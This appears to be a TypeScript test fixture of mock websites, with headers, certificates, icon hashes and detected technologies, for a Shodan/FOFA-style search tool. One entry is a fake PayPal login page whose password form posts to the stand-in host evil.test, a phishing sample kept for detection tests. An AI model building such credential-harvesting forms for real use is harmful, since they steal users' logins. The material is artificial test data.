/* A few sites, with what other engines know of them besides the source. */

interface Page {
  readonly url: string;
  readonly source: string;
  /** Title as it is shown. */
  readonly title: string;
  readonly head?: Head;
  /** Hash of the icon, as Shodan and FOFA write it. */
  readonly icon?: string;
  readonly certificate?: Certificate;
  /** Country in which the server stands. */
  readonly server?: string;
  /** Hosts that the page asks when it is opened, and names of the files that it gets. */
  readonly hosts?: readonly string[];
  readonly files?: readonly string[];
  /** Technologies by name, with the version that is seen. */
  readonly technologies?: Readonly<Record<string, string | null>>;
}

/** The head of an answer. */
interface Head {
  /** Status with its words; `200 OK` if absent. */
  readonly status?: string;
  /** Fields as they were received. */
  readonly fields?: readonly string[];
  /** Values of Set-Cookie. */
  readonly cookies?: readonly string[];
}

/** A certificate as far as engines ask for it. */
interface Certificate {
  readonly issuer: string;
  readonly names: readonly string[];
  readonly isExpired: boolean;
  readonly tls: string;
}

export interface Site {
  readonly domain: string;
  readonly pages: readonly Page[];
}

/** A page of a site, as the meaning of a query sees it: with the technologies of all of the site. */
export interface SeenPage extends Required<Omit<Page, 'head' | 'certificate'>> {
  /** The head of the answer as it was received. */
  readonly head: string;
  readonly status: number;
  readonly fields: readonly string[];
  /** Names of the cookies that it sets. */
  readonly cookies: readonly string[];
  readonly certificate: Certificate | null;
  readonly domain: string;
  readonly host: string;
}

export const SITES: readonly Site[] = [
  {
    domain: 'tea.example.com',
    pages: [
      {
        url: 'https://www.tea.example.com/',
        title: 'Tea & more',
        source: `<!DOCTYPE html>
<html lang="en"><head><title>Tea &amp; more</title>
<meta name="generator" content="WordPress 6.4.2">
<script src="https://www.googletagmanager.com/gtag/js?id=G-ABC12345"></script>
<script>window.dataLayer = window.dataLayer || [];
function gtag(){dataLayer.push(arguments);}
gtag('js', new Date());
gtag('config', 'G-ABC12345');</script>
<link rel="stylesheet" href="/wp-content/plugins/woocommerce/assets/css/woo.css?ver=8.1">
</head><body>Powered by WordPress</body></html>`,
        head: {
          fields: ['Server: nginx/1.25.3', 'X-Powered-By: PHP/8.2', 'Content-Type: text/html; charset=UTF-8'],
          cookies: ['PHPSESSID=0f1e2d3c; path=/; HttpOnly', '_ga=GA1.2.77.88; Path=/; Secure'],
        },
        icon: '-123',
        certificate: {
          issuer: "Let's Encrypt R3",
          names: ['*.tea.example.com', 'tea.example.com'],
          isExpired: false,
          tls: 'TLSv1.3',
        },
        server: 'DE',
        hosts: ['www.tea.example.com', 'www.googletagmanager.com', 'www.google-analytics.com'],
        files: ['js', 'woo.css', 'collect'],
        technologies: { WordPress: '6.4.2', WooCommerce: '8.1.0', 'Google Analytics': null },
      },
      {
        url: 'https://www.tea.example.com/shop/',
        title: 'Shop - Tea',
        source: `<html><head><title>Shop - Tea</title><script src="/js/jquery-1.12.4.min.js"></script></head>
<body><a href="https://example.net/">net</a></body></html>`,
        head: { fields: ['Server: nginx/1.25.3', 'X-Powered-By: PHP/8.2'] },
        server: 'DE',
        hosts: ['www.tea.example.com'],
        files: ['jquery-1.12.4.min.js'],
        technologies: { jQuery: '1.12.4' },
      },
    ],
  },
  {
    domain: 'example.net',
    pages: [
      {
        url: 'https://example.net/',
        title: 'Net',
        source: `<html><head><title>
Net
</title><script src="//cdn.example.org/jquery-3.6.0.min.js"></script></head><body>jQuery(document)</body></html>`,
        head: { fields: ['Server: Apache/2.4.58 (Unix)', 'Via: 1.1 nginx'] },
        icon: '77',
        certificate: {
          issuer: 'DigiCert Inc DigiCert TLS RSA SHA256 2020 CA1',
          names: ['example.net', 'www.example.net'],
          isExpired: true,
          tls: 'TLSv1.2',
        },
        server: 'US',
        hosts: ['example.net', 'cdn.example.org'],
        files: ['jquery-3.6.0.min.js'],
        technologies: { jQuery: '3.6.0' },
      },
    ],
  },
  {
    domain: 'paypal-login.example.org',
    pages: [
      {
        url: 'https://paypal-login.example.org/secure/login.php',
        title: 'Log in to your PayPal account',
        source: `<html><head><title>Log in to your PayPal account</title></head>
<body><form action="http://evil.test/login.php" method="post"><input type="password"></form></body></html>`,
        server: 'RU',
        hosts: ['paypal-login.example.org'],
        files: ['login.php'],
      },
    ],
  },
  {
    domain: 'secure-bank.test',
    pages: [
      {
        url: 'https://secure-bank.test/',
        title: 'Bank',
        source: `<html><head><title>Bank</title></head><body><a href="http://www.tea.example.com/">tea</a> paypal</body></html>`,
        head: { cookies: ['JSESSIONID=1'] },
        server: 'DE',
        hosts: ['secure-bank.test', 'paypal-login.example.org'],
        files: ['tracker.js'],
      },
    ],
  },
  {
    domain: 'jboss.example',
    pages: [
      {
        url: 'https://jboss.example/status',
        title: 'Welcome to JBoss',
        source: `<html><head><title>Welcome to JBoss</title></head><body>JBoss Application Server 7<br>jbossweb foo_bar</body></html>`,
        head: {
          status: '401 Unauthorized',
          fields: ['Server: nginx jboss', 'WWW-Authenticate: Basic realm="JBoss"'],
        },
        server: 'US',
        hosts: ['jboss.example'],
      },
    ],
  },
  {
    domain: 'jbossweb.test',
    pages: [
      {
        url: 'http://jbossweb.test/',
        title: 'jbossweb: Welcome, to it',
        source: `<html><head><title>jbossweb: Welcome, to it</title></head><body>jbossweb.xml powered-by: none</body></html>`,
        server: 'FR',
        hosts: ['jbossweb.test'],
      },
    ],
  },
  {
    domain: 'cafe.example',
    pages: [
      {
        url: 'https://cafe.example/',
        title: 'Café "au lait"',
        source: `<html lang="fr"><head><title>Caf&eacute; &quot;au lait&quot;</title></head><body>caf&eacute; GTAG(</body></html>`,
        server: 'FR',
        hosts: ['cafe.example'],
      },
    ],
  },
  {
    domain: 'cafe.test',
    pages: [
      {
        url: 'https://cafe.test/',
        title: 'Le Café',
        source: `<html><head><title>Le Café</title></head><body>Café noir
foo
end foo</body></html>`,
        server: 'DE',
        hosts: ['cafe.test'],
      },
    ],
  },
  {
    domain: 'code.example',
    pages: [
      {
        url: 'https://code.example/snippets/index.html',
        title: 'Snippets',
        source: String.raw`<html><head><title>Snippets</title></head><body><pre>name = "tensorflow"
C:\Users\me sparse index
SparseIndexVector fooXbar foo.bar FOO(1) foo(1)
AKIAIOSFODNN7EXAMPLE /wp-content/ a|b</pre></body></html>`,
        server: 'US',
        hosts: ['code.example'],
      },
    ],
  },
  {
    domain: 'newsletter.test',
    pages: [
      {
        url: 'https://newsletter.test/',
        title: '登录 Newsletter',
        source: `<html><head><title>登录 Newsletter</title><script src="https://sibforms.com/forms/main.js"></script></head>
<body><a href="https://www.brevo.com/">Brevo</a> fbq('init', '1234'); Foo foo.js</body></html>`,
        head: { fields: ['Server: Apache'], cookies: ['MYSESSID=a%3Db; SameSite=Lax'] },
        icon: '-123',
        server: 'CN',
        hosts: ['newsletter.test', 'sibforms.com'],
        files: ['main.js'],
        technologies: { Brevo: null },
      },
    ],
  },
  { domain: 'plain.test', pages: [{ url: 'https://plain.test/', title: '', source: '<p>nothing here</p>' }] },
];

const NOTHING = { icon: '', server: '', hosts: [], files: [], technologies: {} };

export function seen({ domain, pages }: Site): readonly SeenPage[] {
  const technologies = Object.assign(
    {},
    ...pages.map((page) => page.technologies),
  ) as SeenPage['technologies'];
  return pages.map(({ head = {}, certificate = null, ...page }) => {
    const { status = '200 OK', fields = [], cookies = [] } = head;
    const lines = [`HTTP/1.1 ${status}`, ...fields, ...cookies.map((cookie) => `Set-Cookie: ${cookie}`)];
    return {
      ...NOTHING,
      ...page,
      head: lines.map((line) => `${line}\r\n`).join(''),
      status: Number.parseInt(status, 10),
      fields,
      cookies: cookies.map((cookie) => cookie.split('=')[0] ?? ''),
      certificate,
      technologies,
      domain,
      host: new URL(page.url).hostname,
    };
  });
}
